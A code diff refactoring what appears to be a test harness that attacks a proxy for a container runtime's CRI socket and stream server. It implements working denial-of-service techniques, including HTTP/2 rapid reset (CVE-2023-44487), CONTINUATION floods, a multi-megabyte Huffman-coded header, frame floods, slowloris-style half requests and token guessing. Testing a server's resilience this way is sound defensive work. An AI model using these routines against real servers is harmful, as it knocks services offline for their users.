@@ -23,6 +23,7 @@ import time
 from collections import deque
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager, suppress
+from functools import partial
 from pathlib import Path
 from typing import Any, Final
 
@@ -60,8 +61,7 @@ _KEPT: Final = 4
 class Attacker:
     """A client that sends what it likes and reads all that comes.
 
-    ``codes`` are of the frames that end a call or the connection, by their kinds; ``is_over`` once
-    the proxy has ended the connection, or said that it does.
+    ``is_over`` once the proxy has ended the connection, or said that it does.
     """
 
     def __init__(self, where: str) -> None:
@@ -69,7 +69,6 @@ class Attacker:
         self._socket.connect(where)
         self._socket.setblocking(False)
         self._unread = b""
-        self.codes: dict[int, list[int]] = {http2.RST_STREAM: [], http2.GOAWAY: []}
         self.is_over = False
         self.send(_HELLO)
 
@@ -94,6 +93,11 @@ class Attacker:
         assert not view or self.is_over, "the proxy takes nothing"
         return not self.is_over
 
+    def repeat(self, frame: bytes, thousands: int) -> None:
+        for _ in range(thousands):
+            if not self.send(frame * 1000):
+                break
+
     def read(self, wait_s: float = 0.0) -> None:
         """Take what has come, after a while if nothing has."""
         self._socket.settimeout(wait_s)
@@ -104,23 +108,17 @@ class Attacker:
                 self._unread += data
                 self._socket.settimeout(0.0)
         self._socket.settimeout(0.0)
-        pos = 0
-        for kind, payload, stop in http2.frames(self._unread):
-            pos = stop
-            if kind == http2.RST_STREAM:
-                self.codes[kind].append(int.from_bytes(payload[:4], "big"))
-            elif kind == http2.GOAWAY:
-                self.codes[kind].append(int.from_bytes(payload[4:8], "big"))
-                self.is_over = True
-        self._unread = self._unread[pos:]
+        read = 0
+        for kind, _, stop in http2.frames(self._unread):
+            read = stop
+            self.is_over |= kind == http2.GOAWAY
+        self._unread = self._unread[read:]
 
-    def end(self) -> int | None:
-        """Wait until the proxy ends the connection; return the code of its GOAWAY."""
+    def wait(self) -> None:
+        """Wait until the proxy ends the connection."""
         until = time.monotonic() + PATIENCE_S
         while not self.is_over and time.monotonic() < until:
             self.read(wait_s=0.1)
-        codes = self.codes[http2.GOAWAY]
-        return codes[-1] if codes else None
 
     def close(self) -> None:
         self._socket.close()
@@ -129,12 +127,10 @@ class Attacker:
 # On the CRI socket
 
 
-def _block(stream_id: int, content: bytes) -> bytes:
-    return http2.block(stream_id, _HEADERS + content)
-
-
 _HUFFMAN: Final = b"\x18\xc6\x31\x8c\x63" * (8 * MIB // 5)
-_LARGE_HEADER: Final = _block(1, b"\0\x01x" + http2.length(len(_HUFFMAN), 7, 0x80) + _HUFFMAN)
+_LARGE_HEADER: Final = http2.block(
+    1, _HEADERS + b"\0\x01x" + http2.length(len(_HUFFMAN), 7, 0x80) + _HUFFMAN
+)
 
 
 def header_of_megabytes(attacker: Attacker) -> None:
@@ -145,10 +141,7 @@ def header_of_megabytes(attacker: Attacker) -> None:
 def continuations(attacker: Attacker) -> None:
     """Let each frame make the header block be looked at again from its start."""
     attacker.send(http2.frame(http2.HEADERS, 0, 1, _HEADERS))
-    empty = http2.frame(http2.CONTINUATION, 0, 1)
-    for _ in range(1_700):
-        if not attacker.send(empty * 1000):
-            break
+    attacker.repeat(http2.frame(http2.CONTINUATION, 0, 1), 1_700)
 
 
 def unending_bodies(attacker: Attacker, size: int = BODY_BYTES) -> None:
@@ -167,73 +160,61 @@ _PULL_REQUEST: Final = cri_pb2.PullImageRequest(
 ).SerializeToString()
 
 
-def pulls_reset(attacker: Attacker) -> None:
-    """Open calls and reset them, as in CVE-2023-44487."""
+def _reset_each(attacker: Attacker, path: str, request: bytes, pause_s: float = 0.0) -> None:
     attacker.acknowledge()
     for stream_id in range(1, 2 * RESETS, 2):
-        call = opened(stream_id, PULL) + message(stream_id, _PULL_REQUEST) + reset(stream_id)
-        if not attacker.send(call):
+        if not attacker.send(opened(stream_id, path) + message(stream_id, request)):
             break
+        time.sleep(pause_s)
+        if not attacker.send(reset(stream_id)):
+            break
+
+
+def pulls_reset(attacker: Attacker) -> None:
+    """Open calls and reset them, as in CVE-2023-44487."""
+    _reset_each(attacker, PULL, _PULL_REQUEST)
 
 
 def pulls_given_up(attacker: Attacker) -> None:
     """Reset calls when they have begun to be answered, which is worth a line of the log."""
-    attacker.acknowledge()
-    for stream_id in range(1, 2 * RESETS, 2):
-        if not attacker.send(opened(stream_id, PULL) + message(stream_id, _PULL_REQUEST)):
-            break
-        time.sleep(0.001)
-        if not attacker.send(reset(stream_id)):
-            break
+    _reset_each(attacker, PULL, _PULL_REQUEST, 0.001)
 
 
 def events_reset(attacker: Attacker) -> None:
     """Open streams of the runtime and reset them."""
-    path = RUNTIME + "GetContainerEvents"
-    attacker.acknowledge()
-    for stream_id in range(1, 2 * RESETS, 2):
-        if not attacker.send(opened(stream_id, path) + message(stream_id, b"")):
-            break
-        if not attacker.send(reset(stream_id)):
-            break
+    _reset_each(attacker, RUNTIME + "GetContainerEvents", b"")
 
 
-EMPTY_FRAMES: Final = (
-    http2.frame(http2.PING, 0, 0, bytes(8)),
-    http2.settings(),
-    http2.frame(http2.DATA, 0, 1),
-    http2.window_update(0, 1),
-    http2.reset(1),
-    http2.frame(http2.PRIORITY, 0, 1, bytes(5)),
-    http2.frame(0xF0, 0, 0, b"x"),
+_kinds: Final = itertools.cycle(
+    (
+        http2.frame(http2.PING, 0, 0, bytes(8)),
+        http2.settings(),
+        http2.frame(http2.DATA, 0, 1),
+        http2.window_update(0, 1),
+        http2.reset(1),
+        http2.frame(http2.PRIORITY, 0, 1, bytes(5)),
+        http2.frame(0xF0, 0, 0, b"x"),
+    )
 )
-_kinds = itertools.cycle(EMPTY_FRAMES)
 
 
-def empty_frames(attacker: Attacker, frame: bytes | None = None) -> None:
+def empty_frames(attacker: Attacker) -> None:
     """Send frames that carry nothing, of one kind."""
-    frame = frame or next(_kinds)
     attacker.send(opened(1, PULL))
-    for _ in range(500):
-        if not attacker.send(frame * 1000):
-            break
+    attacker.repeat(next(_kinds), 500)
 
 
-def bytes_in_frames(attacker: Attacker, count: int = BODY_BYTES - 1) -> None:
+def bytes_in_frames(attacker: Attacker) -> None:
     """Send the request of a call in frames of a byte each, which is in order."""
-    size = BODY_BYTES
     attacker.send(opened(1, PULL))
-    attacker.send(http2.frame(http2.DATA, 0, 1, b"\0" + size.to_bytes(4, "big")))
-    frames = http2.frame(http2.DATA, 0, 1, b"\0") * 1000
-    for _ in range(count // 1000):
-        if not attacker.send(frames):
-            break
+    attacker.send(http2.frame(http2.DATA, 0, 1, b"\0" + BODY_BYTES.to_bytes(4, "big")))
+    attacker.repeat(http2.frame(http2.DATA, 0, 1, b"\0"), BODY_BYTES // 1000)
 
 
 def garbage(attacker: Attacker) -> None:
     """Break the protocol, and come back."""
     attacker.send(b"GET / HTTP/1.1\r\n\r\n" * 10)
-    attacker.end()
+    attacker.wait()
 
 
 # On the stream server
@@ -272,19 +253,13 @@ def _address(where: str) -> tuple[str, int]:
     return host, int(port)
 
 
-def half_requests(where: str) -> None:
-    """Never end the heads of requests."""
-    _hold(where, b"GET /progress/x HTTP/1.1\r\nHost: ")
-
-
-def silence(where: str) -> None:
-    """Say nothing at all."""
-    _hold(where, b"")
-
-
-def guesses(where: str) -> None:
-    """Try tokens."""
-    _hold(where, f"GET /copy/{'x' * 32} HTTP/1.1\r\nHost: {where}\r\n\r\n".encode())
+ON_STREAMS: Final[dict[str, Callable[[str], object]]] = {
+    "half-requests": partial(_hold, hello=b"GET /progress/x HTTP/1.1\r\nHost: "),
+    "silence": partial(_hold, hello=b""),
+    "guesses": lambda where: _hold(
+        where, f"GET /copy/{'x' * 32} HTTP/1.1\r\nHost: {where}\r\n\r\n".encode()
+    ),
+}
 
 
 # On an agent's port
@@ -394,7 +369,6 @@ def _named(*functions: Callable[..., object]) -> dict[str, Callable[..., object]
     return {function.__name__.replace("_", "-"): function for function in functions}
 
 
-ON_STREAMS: Final = _named(half_requests, silence, guesses)
 FLOODS: Final = _named(heads, idle, half_open, no_http)
 ON_CRI: Final = _named(
     *(header_of_megabytes, continuations, unending_bodies, pulls_reset),
